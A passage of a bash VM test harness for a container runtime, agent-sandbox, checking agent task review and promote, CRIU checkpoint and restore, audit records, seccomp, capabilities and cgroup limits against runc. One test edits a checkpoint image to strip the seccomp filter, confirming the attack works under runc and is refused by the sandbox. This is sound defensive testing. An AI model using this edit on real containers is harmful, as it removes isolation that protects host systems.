    step 0 'OK' 'sh scripts/check.sh'
    step 0 './calc/report.py' "find . -name '*.py' -not -path './.git/*' | sort"
    step 0 '' <<'EOF'
python3 - <<'PY'
text = open('calc/stats.py').read()
open('calc/stats.py', 'w').write('"""Statistics helpers."""\n\n\n' + text)
PY
EOF
    step 0 '' 'python3 -m py_compile calc/stats.py'
    step 0 'Statistics helpers.' 'head -n 1 calc/stats.py'
    step 0 'OK' "$unittest"
    step 0 '' 'git add -A'
    step 0 '' "$commit '${task_commits[1]}'"
    step 0 '3' 'git log --oneline | wc -l'
    step 0 '' 'git status --short --untracked-files=all'
}

# The user's side of the task, run in one login session (su -l costs a PAM session per
# call): start the container, one `podman exec` per step (its output and exit code kept
# beside the step), and remove the container. Arguments: RUNTIME NAME CHECKOUT STEPS GIT.
# shellcheck disable=SC2016
task_driver='rt=$1 name=$2 co=$3 steps=$4 git=$5
podman rm -f -t 0 "$name" >/dev/null 2>&1
podman --runtime "$rt" run -d --name "$name" --network none -v "$co:/workspace" \
    -v "$git:/usr/bin/git:ro" localhost/agent-sandbox/tools:latest sleep 3600 || exit 90
for f in "$steps"/*.sh; do
    n=${f%.sh}
    podman exec --env "AGENT_SANDBOX_TOOL_CALL_ID=vm-task-${n##*/}" -w /workspace "$name" \
        sh -c "$(cat "$f")" >"$n.out" 2>&1 </dev/null
    echo $? >"$n.got"
done'

# rootless-task RT: the task under runc (the reference: every step works and the host
# checkout changes at once) and under agent-sandbox (every step works as under runc, the host
# checkout is unchanged until the user reviews and promotes, and then it has the agent's
# edits and its commits as refs/agent-sandbox/..., main where it was).
task_scenario() {
    local rt=$1 check=rootless-task name="vm-task-$1" home=/home/$task_user
    local co=$home/src/calc-$1 steps=$home/.vm-task-$1 git=/usr/local/lib/vm-task/git
    log=$out/logs/$check.$rt.log
    local rtarg=$rt
    [[ $rt == agent-sandbox ]] && rtarg=/usr/local/bin/agent-sandbox
    if [[ ! -x $in/extra/git ]]; then
        result "$check.steps" "$rt" FAIL "no git for the container on the exchange disk (hack/vm/test.sh stages /usr/local/bin/git)"
        return 0
    fi
    install -D -m 0755 "$in/extra/git" "$git"
    if ! task_user_ready; then
        result "$check.steps" "$rt" FAIL "the user's session: $(brief "$got")"
        return 0
    fi
    install -d -o "$task_uid" -g "$task_uid" "$home/src"
    if ! task_checkout "$co"; then
        result "$check.steps" "$rt" FAIL "making the user's checkout failed (see the log)"
        return 0
    fi
    task_steps "$steps"
    chown -R "$task_uid:$task_uid" "$steps"
    local before main_before total
    before=$(task_state "$co")
    main_before=$(cat "$co/.git/refs/heads/main")
    total=$(find "$steps" -name '*.sh' | wc -l)
    local start=$SECONDS
    capture_limit=1200
    capture "${as_dev[@]}" sh -c "$task_driver" sh "$rtarg" "$name" "$co" "$steps" "$git" || true
    capture_limit=''
    local took=$((SECONDS - start)) f n wrong=() ran=0
    for f in "$steps"/*.sh; do
        n=${f%.sh}
        [[ -f $n.got ]] || continue
        ran=$((ran + 1))
        {
            echo "--- step ${n##*/} (want exit $(cat "$n.code") and '$(cat "$n.want")' in the output): $(head -n1 "$f")"
            cat "$n.out"
            echo "(exit $(cat "$n.got"))"
        } >>"$log"
        if [[ $(cat "$n.got") != "$(cat "$n.code")" ]]; then
            wrong+=("${n##*/} exited $(cat "$n.got"), want $(cat "$n.code"): $(head -n1 "$f"): $(brief "$(cat "$n.out")")")
        elif [[ -s $n.want ]] && ! grep -qF -- "$(cat "$n.want")" "$n.out"; then
            wrong+=("${n##*/} did not print '$(cat "$n.want")': $(brief "$(cat "$n.out")")")
        fi
    done
    ((ran == total)) || wrong+=("$ran of $total steps ran: $(brief "$got")")
    if ((${#wrong[@]})); then
        result "$check.steps" "$rt" FAIL "${#wrong[@]} of $total calls went wrong: ${wrong[*]}"
    else
        result "$check.steps" "$rt" PASS "$total of $total calls as expected, as podman execs into one container (${took} s)"
    fi
    capture "${as_dev[@]}" podman rm -f -t 0 "$name" || true
    if [[ $rt != agent-sandbox ]]; then
        # The reference: the agent's edits and commits are in the host checkout at once.
        if [[ $(task_state "$co") != "$before" ]] && grep -q 'return a - b' "$co/calc/ops.py" &&
            [[ ! -e $co/docs/legacy.md && $(cat "$co/.git/refs/heads/main" 2>/dev/null) != "$main_before" ]]; then
            result "$check.host" "$rt" PASS "reference: the edits and the commits reached the host checkout at once"
        else
            result "$check.host" "$rt" FAIL "reference: the host checkout did not get the task's changes"
        fi
        return 0
    fi
    if [[ $(task_state "$co") != "$before" ]]; then
        result "$check.host" "$rt" FAIL "the host checkout changed before promote: $(diff <(echo "$before") <(task_state "$co") | head -n 5 | tr '\n' ' ')"
    else
        result "$check.host" "$rt" PASS "the host checkout (.git included) is unchanged after the task and the container's removal"
    fi
    task_review "$check" "$rt" "$name" "$co" "$main_before"
}

# task_review CHECK RT NAME CHECKOUT MAIN: review and promote as the user, as
# docs/workspace.md says for rootless podman (the kept files belong to the user: no podman
# unshare needed; it is shown to work too), then the checkout read back with the user's git.
task_review() {
    local check=$1 rt=$2 name=$3 co=$4 main_before=$5 path missing=()
    if ! capture_out "${as_dev[@]}" /usr/local/bin/agent-sandbox diff "$name"; then
        result "$check.review" "$rt" FAIL "diff as $task_user: $(brief "$got")"
        return 0
    fi
    for path in 'M /calc/ops.py' 'A /calc/stats.py' 'A /calc/report.py' 'A /docs/guide.md' \
        'D /docs/legacy.md' 'D /docs/usage.md' 'A /scripts/check.sh'; do
        grep -qF -- "$path (" <<<"$got" || missing+=("$path")
    done
    local diffed=$got
    if ((${#missing[@]})); then
        result "$check.review" "$rt" FAIL "diff lacks ${missing[*]}: $(brief "$diffed")"
        return 0
    fi
    if capture_out "${as_dev[@]}" podman unshare /usr/local/bin/agent-sandbox diff "$name" &&
        [[ $(grep '^[MAD] ' <<<"$got") == "$(grep '^[MAD] ' <<<"$diffed")" ]]; then
        result "$check.review" "$rt" PASS "diff as $task_user and through podman unshare: $(grep -c '^[MAD] ' <<<"$diffed") changes"
    else
        result "$check.review" "$rt" FAIL "podman unshare agent-sandbox diff differs from the user's: $(brief "$got")"
    fi
    if ! capture "${as_dev[@]}" /usr/local/bin/agent-sandbox promote "$name" --to "$co" ||
        [[ $got != *"wrote refs/agent-sandbox/"* ]]; then
        result "$check.promote" "$rt" FAIL "promote as $task_user: $(brief "$got")"
        return 0
    fi
    local agent_ref history
    if ! grep -q 'return a - b' "$co/calc/ops.py" || [[ ! -f $co/calc/stats.py || ! -f $co/docs/guide.md ]] ||
        [[ -e $co/docs/legacy.md || -e $co/docs/usage.md ]] || [[ $(stat -c %u "$co/calc/stats.py") != "$task_uid" ]]; then
        result "$check.promote" "$rt" FAIL "the checkout lacks the edits, the creates, the rename or the delete, or they are not the user's"
        return 0
    fi
    # The user's git on the promoted checkout: promote wrote the agent's history as checked
    # commits under refs/agent-sandbox/ and no file below .git (docs/promote.md#history).
    capture "${as_dev[@]}" git -C "$co" for-each-ref --format='%(refname)' refs/agent-sandbox/ || true
    agent_ref=$(grep -m1 '/heads/main$' <<<"$got" || true)
    history=''
    [[ -n $agent_ref ]] && capture_out "${as_dev[@]}" git -C "$co" log --format=%s "$agent_ref" && history=$got
    if [[ $history != "${task_commits[1]}"$'\n'"${task_commits[0]}"$'\n'initial ]]; then
        result "$check.promote" "$rt" FAIL "the agent's commits under '${agent_ref:-no refs/agent-sandbox/*/heads/main}': $(tr '\n' '|' <<<"$history")"
    elif [[ $(cat "$co/.git/refs/heads/main") != "$main_before" ]]; then
        result "$check.promote" "$rt" FAIL "promote moved main without --advance"
    elif ! capture "${as_dev[@]}" git -C "$co" fsck --strict --no-progress; then
        result "$check.promote" "$rt" FAIL "git fsck of the promoted checkout: $(brief "$got")"
    else
        result "$check.promote" "$rt" PASS "the change and the commits under $agent_ref, main unmoved, git fsck clean"
    fi
}

# task_user_ready: the user's lingering logind session (user@1000.service and its bus) and
# the tools image in its podman storage, once.
task_user_ready() {
    [[ -f /run/vm-task-user-ready ]] && return 0
    capture loginctl enable-linger "$task_user" || return 1
    for _ in $(seq 150); do [[ -S /run/user/$task_uid/bus ]] && break; sleep 0.2; done
    if [[ ! -S /run/user/$task_uid/bus ]]; then
        got="user@$task_uid.service has no D-Bus socket after 30 s"
        return 1
    fi
    install -m 0644 "$in/extra/tools.tar" "/home/$task_user/tools.tar"
    capture "${as_dev[@]}" podman load -q -i "/home/$task_user/tools.tar" || return 1
    touch /run/vm-task-user-ready
}

# --- checkpoint and restore (CRIU) ------------------------------------------------------

# The policy the checkpoint checks give agent-sandbox (docs/checkpoint.md): the built-in
# `agent` profile with its Landlock layer optional (CRIU cannot carry a Landlock domain, so a
# required one refuses the checkpoint) and no reaping init of ours as PID 1 (it cannot be
# checkpointed; podman's `--init` gives one of its own, a CRI container runs its program).
ckpt_policy=/etc/agent-sandbox/vm-ckpt.toml
# The workspace of checkpoint-sandbox.
ckpt_ws=/root/vm-ckpt-ws

# The counter the checkpoint checks run: its count is only in the shell's memory, printed
# once a second, so a log 1, 2, ... N after a restore shows the memory came back.
ckpt_counter='i=0; while :; do i=$((i + 1)); echo "$i"; sleep 1; done'

# checkpoint_scenario RT: `podman container checkpoint` of a rootful container that counts
# once a second, then `podman container restore`: the count must go on from where it was
# (its log 1, 2, ... N with no number twice; a container started afresh would count from 1
# again). runc is the reference (with `criu check` first). agent-sandbox (scenario
# checkpoint-sandbox) runs under $ckpt_policy with `--init` and a workspace, edited before
# the checkpoint and not promoted, and shows besides: the edit is in the restored sandbox
# and in `agent-sandbox diff`, not in the host directory (.workspace); the audit chain
# verifies across `checkpointed` and `restored` (.audit); every restored task is
# unprivileged, filtered and in the sandbox's own namespaces, and `layers` says Landlock
# was not carried (.protections). Both then restore an image edited to drop the seccomp
# filter (.seccomp-edit): runc runs it unfiltered, agent-sandbox must refuse it.
checkpoint_scenario() {
    local rt=$1 check=checkpoint name="vm-ckpt-$1" last n id
    log=$out/logs/$check.$rt.log
    if ! command -v criu >/dev/null; then
        result "$check.restore" "$rt" FAIL "criu is not installed in this guest (hack/vm/image.sh)"
        return 0
    fi
    local pm=(podman --runtime "$rt") run_args=()
    if [[ $rt == runc ]]; then
        capture criu --version || true
        local version=${got%%$'\n'*}
        if capture criu check; then
            result "$check.criu" "$rt" PASS "criu check: $(tail -n1 <<<"$got") (${version})"
        else
            result "$check.criu" "$rt" FAIL "criu check: $(brief "$got") (${version})"
        fi
    else
        pm=(podman --runtime /usr/local/bin/agent-sandbox --runtime-flag "policy=$ckpt_policy")
        if ! capture agent-sandbox checkpoint --help; then
            result "$check.restore" "$rt" FAIL "the runtime has no checkpoint command (agent-sandbox checkpoint --help: $(brief "$got"))"
            return 0
        fi
        rm -rf "$ckpt_ws"
        install -d "$ckpt_ws"
        echo host >"$ckpt_ws/notes.txt"
        run_args=(--init -v "$ckpt_ws:/workspace")
    fi
    capture podman rm -f -t 0 "$name" || true
    if ! capture "${pm[@]}" run -d --name "$name" --network none "${run_args[@]}" "$image" sh -c "$ckpt_counter"; then
        result "$check.restore" "$rt" FAIL "podman run: $(brief "$got")"
        checkpoint_edit_attack "$check" "$rt" "${pm[@]}"
        return 0
    fi
    id=${got##*$'\n'}
    # count_log: the container's log, checked to be 1, 2, ... N; prints N.
    count_log() {
        capture_out podman logs "$name" || return 1
        awk 'NF { if ($0 != NR) exit 1; n = NR } END { if (!n) exit 1; print n }' <<<"$got"
    }
    for _ in $(seq 60); do
        n=$(count_log || true)
        [[ -n $n ]] && ((n >= 3)) && break
        sleep 0.5
    done
    if [[ $rt == agent-sandbox ]] && ! capture podman exec "$name" sh -c 'echo edited > /workspace/notes.txt'; then
        result "$check.workspace" "$rt" FAIL "the edit before the checkpoint: $(brief "$got")"
    fi
    if ! capture "${pm[@]}" container checkpoint "$name"; then
        result "$check.restore" "$rt" FAIL "podman container checkpoint: $(brief "$got")"
        criu_log_tail "$id" dump.log
        capture podman rm -f -t 0 "$name" || true
        return 0
    fi
    last=$(count_log || true)
    capture podman inspect -f '{{.State.Status}} {{.State.Checkpointed}}' "$name" || true
    local state=$got restored=0
    if [[ -z $last ]]; then
        result "$check.restore" "$rt" FAIL "after the checkpoint the log is not a count: $(brief "$got")"
    elif ! capture "${pm[@]}" container restore "$name"; then
        result "$check.restore" "$rt" FAIL "podman container restore: $(brief "$got")"
        criu_log_tail "$id" restore.log
    else
        n=''
        for _ in $(seq 40); do
            n=$(count_log || true)
            [[ -n $n ]] && ((n >= last + 2)) && break
            sleep 0.5
        done
        if [[ -n $n ]] && ((n >= last + 2)); then
            result "$check.restore" "$rt" PASS "checkpointed at $last ($state), restored, counted on to $n with no number twice"
            restored=1
        else
            result "$check.restore" "$rt" FAIL "checkpointed at $last ($state); after restore the log is '$(tail -n 3 <<<"$got" | tr '\n' ' ')' (a count from 1 again, or none)"
        fi
    fi
    if [[ $rt == agent-sandbox ]]; then
        if ((restored)); then
            checkpoint_sandbox_after "$check" "$rt" "$name" "$id"
        else
            not_run "$check" "$rt" "no restored sandbox" workspace audit protections
        fi
    fi
    capture podman rm -f -t 0 "$name" || true
    checkpoint_edit_attack "$check" "$rt" "${pm[@]}"
}

# criu_log_tail ID LOG: the end of CRIU's log of a failed checkpoint or restore, which podman
# keeps in the container's directory, into the check's log.
criu_log_tail() {
    local f=/var/lib/containers/storage/overlay-containers/$1/userdata/$2
    { echo "--- tail of $f"; tail -n 60 "$f"; } >>"$log" 2>&1 || true
}

# checkpoint_sandbox_after CHECK RT NAME ID: what a restored agent-sandbox must still be.
checkpoint_sandbox_after() {
    local check=$1 rt=$2 name=$3 id=$4 bad=() pid t f
    # The unpromoted edit: in the sandbox, in `diff`, not on the host.
    capture podman exec "$name" cat /workspace/notes.txt || true
    local inside=$got
    capture agent-sandbox diff "$id" || true
    local diff=$got
    if [[ $inside != edited ]]; then
        result "$check.workspace" "$rt" FAIL "after the restore /workspace/notes.txt reads '$(brief "$inside")', not the edit"
    elif [[ $diff != *notes.txt* ]]; then
        result "$check.workspace" "$rt" FAIL "agent-sandbox diff lost the edit: $(brief "$diff")"
    elif [[ $(cat "$ckpt_ws/notes.txt") != host ]]; then
        result "$check.workspace" "$rt" FAIL "the edit reached the host directory unpromoted"
    else
        result "$check.workspace" "$rt" PASS "the edit survives the restore, is in diff, and the host file is unchanged"
    fi
    # The chain verifies across; `checkpointed` and `restored` name the same image digest.
    local kinds digests
    if ! capture agent-sandbox audit verify "$id"; then
        result "$check.audit" "$rt" FAIL "audit verify: $(brief "$got")"
    elif ! capture_out agent-sandbox audit --json "$id"; then
        result "$check.audit" "$rt" FAIL "audit --json: $(brief "$got")"
    else
        kinds=$(jq -r '.kind' <<<"$got" | tr '\n' ' ')
        digests=$(jq -r 'select(.kind == "checkpointed" or .kind == "restored") | .data.image_digest' <<<"$got" | sort -u)
        if [[ " $kinds " != *" checkpointed "*" restored "* ]]; then
            result "$check.audit" "$rt" FAIL "no checkpointed then restored record: $kinds"
        elif [[ $(wc -l <<<"$digests") != 1 || $digests == null ]]; then
            result "$check.audit" "$rt" FAIL "checkpointed and restored name different digests: ${digests//$'\n'/ }"
        else
            result "$check.audit" "$rt" PASS "audit verify passes across checkpointed and restored (image ${digests:0:19})"
        fi
    fi
    # Every restored task, from the guest's side: no capability, no_new_privs, seccomp on,
    # and the sandbox's user namespace, not the host's.
    capture podman inspect -f '{{.State.Pid}}' "$name" || true
    pid=$got
    # The sandbox's processes: those in its init's PID namespace (the runtime's helpers in
    # its cgroup, outside that namespace, are logged).
    local tasks='' pidns
    pidns=$(readlink "/proc/$pid/ns/pid")
    for t in $(grep -lx "0::$(cgroup_of "$pid")" /proc/[0-9]*/cgroup 2>/dev/null | cut -d/ -f3 || true); do
        if [[ -n $pidns && $(readlink "/proc/$t/ns/pid") == "$pidns" ]]; then
            tasks+=" $t"
        else
            echo "in the sandbox's cgroup, outside its PID namespace: $t $(tr '\0' ' ' <"/proc/$t/cmdline" 2>/dev/null)" >>"$log"
        fi
    done
    capture findmnt -no OPTIONS /run || true
    local checked=0 st
    for t in $tasks; do
        # The counter's `sleep 1` comes and goes each second: one gone (or a zombie) by now
        # has no status to check.
        st=$(cat "/proc/$t/status" 2>/dev/null || true)
        [[ -n $st && $st != *$'\nState:\tZ'* ]] || continue
        checked=$((checked + 1))
        echo "restored task $t: $(tr '\0' ' ' <"/proc/$t/cmdline" 2>/dev/null)" >>"$log"
        grep -qx $'CapEff:\t0000000000000000' <<<"$st" || bad+=("$t:CapEff")
        grep -qx $'CapBnd:\t0000000000000000' <<<"$st" || bad+=("$t:CapBnd")
        grep -qx $'NoNewPrivs:\t1' <<<"$st" || bad+=("$t:NoNewPrivs")
        grep -qx $'Seccomp:\t2' <<<"$st" || bad+=("$t:Seccomp")
        [[ $(readlink "/proc/$t/ns/user") != "$(readlink /proc/1/ns/user)" ]] || bad+=("$t:userns")
    done
    capture_out agent-sandbox layers "$id" || true
    local layers=$got
    if ((checked == 0)); then
        result "$check.protections" "$rt" FAIL "no task in the restored sandbox's cgroup ($(cgroup_of "$pid"))"
    elif ((${#bad[@]})); then
        result "$check.protections" "$rt" FAIL "restored tasks lack: ${bad[*]}"
    elif [[ $layers != *"CRIU does not save Landlock domains"* ]]; then
        result "$check.protections" "$rt" FAIL "layers does not say Landlock was not carried: $(brief "$layers")"
    else
        result "$check.protections" "$rt" PASS "$checked tasks of the restored sandbox: no caps, no_new_privs, seccomp, own userns; layers names Landlock not carried"
    fi
}

# checkpoint_edit_attack CHECK RT PODMAN...: a counting container checkpointed, its init's
# CRIU core image edited to drop the seccomp filter (e2e/examples/criu_edit.rs, the e2e
# suite's edit), then restored: runc, the reference, runs it unfiltered (the attack works);
# agent-sandbox must refuse it, naming the difference, and leave no sandbox behind.
checkpoint_edit_attack() {
    local check=$1 rt=$2 name="vm-ckpt-edit-$2" id pid seccomp refusal
    shift 2
    local pm=("$@") run_args=()
    [[ $rt == agent-sandbox ]] && run_args=(--init)
    capture podman rm -f -t 0 "$name" || true
    if ! capture "${pm[@]}" run -d --name "$name" --network none "${run_args[@]}" "$image" sh -c "$ckpt_counter"; then
        result "$check.seccomp-edit" "$rt" FAIL "podman run: $(brief "$got")"
        return 0
    fi
    id=${got##*$'\n'}
    sleep 2
    local core=/var/lib/containers/storage/overlay-containers/$id/userdata/checkpoint/core-1.img
    if ! capture "${pm[@]}" container checkpoint "$name"; then
        result "$check.seccomp-edit" "$rt" FAIL "podman container checkpoint: $(brief "$got")"
    elif ! capture criu_edit drop-seccomp "$core"; then
        result "$check.seccomp-edit" "$rt" FAIL "criu_edit drop-seccomp $core: $(brief "$got")"
    elif capture "${pm[@]}" container restore "$name"; then
        capture podman inspect -f '{{.State.Pid}}' "$name" || true
        pid=$got
        seccomp=$(awk '$1 == "Seccomp:" {print $2}' "/proc/$pid/status" 2>/dev/null || true)
        if [[ $rt == agent-sandbox ]]; then
            result "$check.seccomp-edit" "$rt" FAIL "the edited image was restored (init Seccomp: ${seccomp:-?})"
        elif [[ $seccomp == 0 ]]; then
            result "$check.seccomp-edit" "$rt" PASS "the edited image restored, its init runs without seccomp (Seccomp: 0): the attack works here"
        else
            result "$check.seccomp-edit" "$rt" FAIL "restored, but its init has Seccomp: ${seccomp:-?} (the edit did not take: the check cannot fail)"
        fi
    elif [[ $rt == runc ]]; then
        result "$check.seccomp-edit" "$rt" FAIL "podman container restore of the edited image: $(brief "$got")"
        criu_log_tail "$id" restore.log
    elif refusal=$got; [[ $refusal != *"seccomp filters are not the sandbox's"*"0 seccomp filters"* &&
        $refusal != *"does not match the sandbox's plan"*"Seccomp is 0"* ]]; then
        result "$check.seccomp-edit" "$rt" FAIL "refused, but not for the filter: $(brief "$refusal")"
        criu_log_tail "$id" restore.log
    elif capture agent-sandbox state "$id"; then
        result "$check.seccomp-edit" "$rt" FAIL "refused, but the sandbox is left: $(brief "$got")"
    elif ! capture agent-sandbox audit verify "$id"; then
        result "$check.seccomp-edit" "$rt" FAIL "refused, but audit verify fails: $(brief "$got")"
    else
        result "$check.seccomp-edit" "$rt" PASS "refused: $(grep -m1 -o "restored task.*Seccomp is 0, not [0-9]*" <<<"$refusal" || brief "$refusal")"
    fi
    capture podman rm -f -t 0 "$name" || true
}

# cri_checkpoint_scenario RT: CRI CheckpointContainer (kubelet's checkpoint API, containerd
# 2.x) of a container that counts in memory: the archive must hold CRIU's image and the
# container must go on counting (CRI checkpoints leave it running). runc's handler is the
# reference; agent-sandbox's is `agent-sandbox-ckpt`, the shim with $ckpt_policy.
cri_checkpoint_scenario() {
    local rt=$1 check=cri-checkpoint handler=$1 pod cid n1 n2 archive=/tmp/vm-cri-ckpt-$1.tar
    log=$out/logs/$check.$rt.log
    [[ $rt == agent-sandbox ]] && handler=agent-sandbox-ckpt
    rm -f "$archive"
    if ! capture_out cri_vm run --handler "$handler" -- sh -c 'i=0; while :; do i=$((i + 1)); echo $i > /tmp/count; sleep 1; done'; then
        result "$check.archive" "$rt" FAIL "CRI pod: $(brief "$(tail -n 20 "$log")")"
        return 0
    fi
    pod=$(jq -r .pod <<<"$got")
    cid=$(jq -r .container <<<"$got")
    sleep 3
    capture cri_vm exec "$cid" -- cat /tmp/count || true
    n1=$got
    if ! capture_limit=300 capture cri_vm checkpoint "$cid" --location "$archive"; then
        result "$check.archive" "$rt" FAIL "CheckpointContainer: $(brief "$got")"
        diagnose "$check.$rt"
    else
        capture tar -tvf "$archive" || true
        local listing=$got
        sleep 2
        capture cri_vm exec "$cid" -- cat /tmp/count || true
        n2=$got
        if ! grep -q ' checkpoint/core-[0-9]*\.img$' <<<"$listing"; then
            result "$check.archive" "$rt" FAIL "the archive has no CRIU image (checkpoint/core-*.img): $(brief "$listing")"
        elif ! [[ $n1 =~ ^[0-9]+$ && $n2 =~ ^[0-9]+$ ]] || ((n2 <= n1)); then
            result "$check.archive" "$rt" FAIL "the container stopped counting after the checkpoint ($n1, then '$(brief "$n2")')"
        else
            result "$check.archive" "$rt" PASS "archive of $(du -k "$archive" | cut -f1) KiB with CRIU's image ($(grep -c ' checkpoint/' <<<"$listing") files); counting on, $n1 then $n2"
        fi
    fi
    capture cri_vm remove "$pod" || true
    rm -f "$archive"
}

# --- ctr (d) ----------------------------------------------------------------------------

ctr_scenario() {
    local rt=$1 check=ctr runtime id="vm-ctr-$1" pid label evpid
    log=$out/logs/$check.$rt.log
    runtime=io.containerd.runc.v2
    [[ $rt == agent-sandbox ]] && runtime=io.agent.sandbox
    # crun behind containerd's runc shim, as with a runtime entry whose BinaryName is crun.
    local binary=()
    [[ $rt == crun ]] && binary=(--runc-binary /usr/bin/crun)
    local want_pids=max
    [[ $rt == agent-sandbox ]] && want_pids=$sandbox_pids
    capture ctr task kill -s KILL "$id" || true
    capture ctr task delete -f "$id" || true
    capture ctr container delete "$id" || true
    if ! capture ctr run -d --runtime "$runtime" "${binary[@]}" --memory-limit "$mem" "$image" "$id" \
        sh -c 'exec sleep 600'; then
        result "$check.start" "$rt" FAIL "ctr run: $(brief "$got")"
        not_run "$check" "$rt" "the container did not start" limits apparmor cleanup
    else
        if capture ctr task exec --exec-id aa "$id" cat /proc/self/attr/current; then
            result "$check.start" "$rt" PASS "ctr run -d, ctr task exec ran a command"
            label=$got
            # ctr asks for no profile (--apparmor-default-profile would): runc runs unconfined
            # (AppArmor 4 and later: in the unconfined-mode profile of its binary).
            check_apparmor "$check" "$rt" "$label" "$unconfined"
        else
            result "$check.start" "$rt" FAIL "ctr task exec: $(brief "$got")"
            not_run "$check" "$rt" "exec failed" apparmor
        fi
        if [[ $rt == agent-sandbox ]]; then
            ctr_layers "$check" "$id"
        fi
        ctr_metrics "$check" "$rt" "$id"
        capture_out ctr task ls || true
        pid=$(awk -v id="$id" '$1 == id {print $2}' <<<"$got")
        if [[ $pid =~ ^[1-9][0-9]*$ ]]; then
            check_limits "$check" "$rt" "$pid" "/default/$id" "$mem" "$want_pids" || true
        else
            result "$check.limits" "$rt" FAIL "ctr task ls shows no pid for $id"
        fi
        capture ctr task kill -s KILL "$id" || true
        for _ in $(seq 50); do
            capture_out ctr task ls || true
            awk -v id="$id" '$1 == id && $3 == "STOPPED" {f=1} END {exit !f}' <<<"$got" && break
            sleep 0.2
        done
        if ! capture ctr task delete "$id" || ! capture ctr container delete "$id"; then
            result "$check.cleanup" "$rt" FAIL "ctr delete: $(brief "$got")"
        elif ! wait_gone "/sys/fs/cgroup/default/$id"; then
            result "$check.cleanup" "$rt" FAIL "/sys/fs/cgroup/default/$id is left after delete"
        else
            result "$check.cleanup" "$rt" PASS "no cgroup left"
        fi
    fi

    # OOM: containerd publishes /tasks/oom (TaskOOM) for the container.
    local events=$out/logs/$check.$rt.events
    ctr events >"$events" 2>&1 &
    evpid=$!
    sleep 1
    capture ctr run --rm --runtime "$runtime" "${binary[@]}" --memory-limit "$oom_mem" "$image" "$id-oom" \
        probe hog "$oom_alloc_mib" || true
    local run_out=$got
    sleep 2
    kill "$evpid" 2>/dev/null || true
    wait "$evpid" 2>/dev/null || true
    cat "$events" >>"$log"
    if grep -q "/tasks/oom.*$id-oom" "$events"; then
        result "$check.oom" "$rt" PASS "TaskOOM event for $id-oom"
    else
        result "$check.oom" "$rt" FAIL "no /tasks/oom event for $id-oom: $(brief "$run_out")"
    fi
    capture ctr task delete -f "$id-oom" || true
    capture ctr container delete "$id-oom" || true
}

# ctr_metrics CHECK RT ID: `ctr task metrics` from the shim's cgroup v2 statistics: the
# memory in use (non-zero) under the limit asked for, and the pids in the cgroup.
ctr_metrics() {
    local check=$1 rt=$2 id=$3 usage limit pids
    if ! capture_out ctr task metrics "$id"; then
        result "$check.metrics" "$rt" FAIL "ctr task metrics: $(brief "$got")"
        return 0
    fi
    usage=$(awk '$1 == "memory.usage" {print $2}' <<<"$got")
    limit=$(awk '$1 == "memory.usage_limit" {print $2}' <<<"$got")
    pids=$(awk '$1 == "pids.current" {print $2}' <<<"$got")
    if [[ $usage =~ ^[1-9][0-9]*$ && $limit == "$mem" && $pids =~ ^[1-9][0-9]*$ ]]; then
        result "$check.metrics" "$rt" PASS "memory.usage $usage of $limit, pids.current $pids"
    else
        result "$check.metrics" "$rt" FAIL "memory.usage '$usage' limit '$limit' (want $mem) pids.current '$pids': $(brief "$got")"
    fi
}

# ctr_layers CHECK ID: `agent-sandbox layers` of a running ctr sandbox on this kernel:
# Landlock at the kernel's own ABI, every right that ABI lacks named with a cover, and
# AppArmor active with the init in the profile.
ctr_layers() {
    local check=$1 id=$2 kabi abi uncovered aa
    if ! capture_out agent-sandbox --root /run/containerd/agent-sandbox/default layers "$id"; then
        result "$check.layers" agent-sandbox FAIL "layers: $(brief "$got")"
        return 0
    fi
    kabi=$(jq -r '.landlock.kernel_abi' <<<"$got" 2>/dev/null || true)
    abi=$(jq -r '.landlock.abi' <<<"$got" 2>/dev/null || true)
    uncovered=$(jq -r '[.landlock.missing[]? | select((.covered_by | type) != "array" or (.covered_by | length) == 0) | .right] | join(",")' <<<"$got" 2>/dev/null || echo '?')
    aa=$(jq -r '.apparmor.active' <<<"$got" 2>/dev/null || true)
    if [[ $kabi =~ ^[0-9]+$ && $abi == "$kabi" && -z $uncovered && $aa == true ]]; then
        result "$check.layers" agent-sandbox PASS "landlock abi $abi (kernel $kabi), missing rights covered: $(jq -r '[.landlock.missing[]?.right] | join(",")' <<<"$got"), apparmor active"
    else
        result "$check.layers" agent-sandbox FAIL "landlock abi '$abi' kernel '$kabi' uncovered '$uncovered' apparmor active '$aa'"
    fi
}

# --- CRI (e) ----------------------------------------------------------------------------

cri_scenario() {
    local rt=$1 check=cri pod cid pid parent slice label
    log=$out/logs/$check.$rt.log
    # CRI asks for no pids limit: runc's systemd driver leaves systemd's DefaultTasksMax on
    # the scope; agent-sandbox must set its own ceiling.
    local want_pids
    want_pids=$(systemctl show --value -p DefaultTasksMax)
    [[ $rt == agent-sandbox ]] && want_pids=$sandbox_pids
    if ! capture_out cri_vm run --handler "$rt" --memory "$mem" --pid -- sh -c 'exec sleep 600'; then
        result "$check.start" "$rt" FAIL "CRI pod: $(brief "$(tail -n 20 "$log")")"
        not_run "$check" "$rt" "the pod did not start" limits apparmor cleanup
    else
        pod=$(jq -r .pod <<<"$got")
        cid=$(jq -r .container <<<"$got")
        pid=$(jq -r .pid <<<"$got")
        parent=$(jq -r .cgroup_parent <<<"$got")
        slice=${parent##*/}
        if capture cri_vm exec "$cid" -- cat /proc/self/attr/current; then
            result "$check.start" "$rt" PASS "pod ${pod:0:12} runs, ExecSync ran a command"
            label=$got
            # containerd's CRI applies its default profile when the pod asks for none.
            check_apparmor "$check" "$rt" "$label" 'cri-containerd.apparmor.d*'
        else
            result "$check.start" "$rt" FAIL "ExecSync: $(brief "$got")"
            not_run "$check" "$rt" "exec failed" apparmor
        fi
        # crun's systemd driver puts the process (and the limits) in a `container` child of
        # the scope it asks for (crun 1.28 in sid; its podman paths end in `*` for the same).
        local sub=''
        [[ $rt == crun ]] && sub='?(/container)'
        check_limits "$check" "$rt" "$pid" "/kubepods.slice/kubepods-besteffort.slice/$slice/cri-containerd-$cid.scope$sub" \
            "$mem" "$want_pids" || true
        if ! capture cri_vm remove "$pod"; then
            result "$check.cleanup" "$rt" FAIL "StopPodSandbox/RemovePodSandbox: $(brief "$got")"
            diagnose "$check.$rt.cleanup"
        else
            # The pod slice is kubelet's to remove; the containers' scopes are the runtime's.
            capture systemctl list-units --all --no-legend "cri-containerd-*" || true
            local left=$got
            local dir=/sys/fs/cgroup/kubepods.slice/kubepods-besteffort.slice/$slice
            local scopes
            scopes=$(find "$dir" -mindepth 1 -maxdepth 1 -type d 2>/dev/null || true)
            if [[ -n $scopes || -n $left ]]; then
                result "$check.cleanup" "$rt" FAIL "left after RemovePodSandbox: ${scopes//$'\n'/ } ${left//$'\n'/ }"
